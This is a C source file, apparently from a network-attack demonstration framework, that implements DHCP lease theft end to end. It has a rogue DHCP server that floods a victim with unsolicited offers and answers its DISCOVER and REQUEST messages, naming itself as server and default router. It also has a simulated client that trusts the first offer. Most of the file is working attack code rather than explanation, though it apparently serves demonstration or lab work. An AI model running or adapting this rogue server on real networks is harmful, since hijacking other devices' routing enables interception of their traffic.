/*
 * Both ends of a stolen lease (RFC 2131): a device that asks for an address and
 * believes the first offer, as devices do, and a server that nobody ordered.
 */
#include "demo/attacker.h"

#include <arpa/inet.h>
#include <string.h>
#include <unistd.h>

#include "base/clock.h"
#include "demo/frame.h"

enum { DISCOVER = 1, OFFER, REQUEST, DECLINE, ACK };
enum { CLIENT = 68, SERVER = 67 };

#define MAGIC	 0x63825363u
#define SPRAY_NS (300 * NSEC_PER_MSEC)

static const uint8_t everybody[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};

struct lease {
	uint8_t type;
	uint32_t xid, yours, server, router; /* addresses in network byte order */
	uint8_t client[6];
};

static size_t encode(uint8_t *buf, size_t cap, const struct lease *l)
{
	static const uint8_t zeros[202];
	struct writer w = writer_new(buf, cap);
	bool answer = l->type == OFFER || l->type == ACK;

	write_u8(&w, answer ? 2 : 1);
	write_u8(&w, 1);
	write_u8(&w, 6);
	write_u8(&w, 0);
	write_be32(&w, l->xid);
	write_be32(&w, 0x8000); /* broadcast flag: the client has no address yet */
	write_be32(&w, 0);
	write_bytes(&w, answer ? &l->yours : (const uint32_t *)zeros, 4);
	write_be32(&w, 0);
	write_be32(&w, 0);
	write_bytes(&w, l->client, 6);
	write_bytes(&w, zeros, 10 + 192);
	write_be32(&w, MAGIC);
	write_u8(&w, 53);
	write_u8(&w, 1);
	write_u8(&w, l->type);
	if (l->server) {
		write_be16(&w, 54 << 8 | 4);
		write_bytes(&w, &l->server, 4);
	}
	if (answer) {
		write_be16(&w, 1 << 8 | 4);
		write_be32(&w, 0xffff0000);
		write_be16(&w, 3 << 8 | 4);
		write_bytes(&w, &l->router, 4);
		write_be16(&w, 51 << 8 | 4);
		write_be32(&w, 3600);
	} else if (l->yours) {
		write_be16(&w, 50 << 8 | 4);
		write_bytes(&w, &l->yours, 4);
	}
	write_u8(&w, 255);
	return w.bad ? 0 : w.len;
}

static bool decode(const struct frame_ip *f, struct lease *ret)
{
	struct reader r = reader_new(f->payload + 8, f->len - 8);
	struct bytes b;

	memset(ret, 0, sizeof(*ret));
	read_skip(&r, 4);
	ret->xid = read_be32(&r);
	read_skip(&r, 8);
	b = read_bytes(&r, 4);
	if (b.len)
		memcpy(&ret->yours, b.data, 4);
	read_skip(&r, 8);
	b = read_bytes(&r, 6);
	if (b.len)
		memcpy(ret->client, b.data, 6);
	read_skip(&r, 10 + 192);
	if (read_be32(&r) != MAGIC)
		return false;
	while (reader_left(&r)) {
		uint8_t code = read_u8(&r);

		if (code == 0)
			continue;
		if (code == 255)
			break;
		b = read_bytes(&r, read_u8(&r));
		if (code == 53 && b.len == 1)
			ret->type = b.data[0];
		if (code == 54 && b.len == 4)
			memcpy(&ret->server, b.data, 4);
		if (code == 3 && b.len >= 4)
			memcpy(&ret->router, b.data, 4);
	}
	return !r.bad && ret->type;
}

static bool dhcp_to(uint8_t *frame, size_t len, uint16_t port, struct lease *ret)
{
	struct frame_ip f;

	return frame_parse(frame, len, &f) && f.proto == 17 && f.len > 8 &&
	       (f.payload[2] << 8 | f.payload[3]) == port && decode(&f, ret);
}

static void send_lease(int sock, const uint8_t src[6], uint32_t ip_src, uint16_t from, uint16_t to,
		       const struct lease *l)
{
	uint8_t data[600], frame[700];
	size_t n = encode(data, sizeof(data), l);

	n = n ? frame_udp(frame, sizeof(frame), everybody, src, ip_src, INADDR_BROADCAST, from, to,
			  data, n)
	      : 0;
	if (n)
		frame_send(sock, frame, n);
}

int attacker_dhcp(void *arg)
{
	const struct attacker *a = arg;
	uint32_t self = frame_ip_of(a->self.ip);
	struct lease offer = {.type = OFFER,
			      .yours = frame_ip_of("10.77.1.99"),
			      .server = self,
			      .router = self},
		     asked;
	uint64_t end = clock_mono_ns() + (uint64_t)a->ms * NSEC_PER_MSEC, next = 0;
	int sock = frame_socket("eth0");
	uint8_t frame[2048];

	if (sock < 0)
		return 1;
	memcpy(offer.client, a->victim.mac, 6);
	while (clock_mono_ns() < end) {
		ssize_t n = frame_receive(sock, frame, sizeof(frame), 50);

		if (clock_mono_ns() >= next) { /* unasked: some clients take that, too */
			send_lease(sock, a->self.mac, self, SERVER, CLIENT, &offer);
			next = clock_mono_ns() + SPRAY_NS;
		}
		if (n <= 0 || !dhcp_to(frame, (size_t)n, SERVER, &asked))
			continue;
		if (asked.type != DISCOVER && asked.type != REQUEST)
			continue;
		asked.type = asked.type == DISCOVER ? OFFER : ACK;
		asked.yours = offer.yours;
		asked.server = asked.router = self;
		send_lease(sock, a->self.mac, self, SERVER, CLIENT, &asked);
	}
	return 0;
}

int device_dhcp(void *arg)
{
	const struct attacker *a = arg;
	struct lease ask = {.type = DISCOVER, .xid = 0x0bed0001}, got;
	uint64_t end = clock_mono_ns() + (uint64_t)a->ms * NSEC_PER_MSEC, next = 0;
	int sock = frame_socket("eth0");
	uint8_t frame[2048];

	if (sock < 0)
		return 1;
	memcpy(ask.client, a->self.mac, 6);
	while (clock_mono_ns() < end) {
		ssize_t n;

		if (clock_mono_ns() >= next) {
			send_lease(sock, a->self.mac, 0, CLIENT, SERVER, &ask);
			next = clock_mono_ns() + 500 * NSEC_PER_MSEC;
		}
		n = frame_receive(sock, frame, sizeof(frame), 50);
		if (n <= 0 || !dhcp_to(frame, (size_t)n, CLIENT, &got) || got.xid != ask.xid ||
		    memcmp(got.client, ask.client, 6) != 0)
			continue;
		if (got.type == OFFER && ask.type == DISCOVER) {
			ask.type = REQUEST;
			ask.yours = got.yours;
			ask.server = got.server;
			next = 0;
		} else if (got.type == ACK && ask.type == REQUEST) {
			a->board->lease_server = got.server;
			a->board->lease_router = got.router;
			return 0;
		}
	}
	return 1;
}
